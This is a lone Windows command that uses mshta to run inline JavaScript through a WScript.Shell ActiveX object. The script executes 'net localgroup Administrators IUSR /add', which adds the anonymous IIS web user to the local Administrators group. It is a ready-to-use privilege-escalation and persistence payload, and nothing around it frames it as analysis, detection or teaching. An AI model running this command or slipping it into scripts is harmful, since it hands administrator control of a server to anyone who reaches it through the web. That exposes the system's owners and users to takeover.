mshta "javascript:new ActiveXObject('WScript.Shell').Run('net localgroup Administrators IUSR /add');close()"
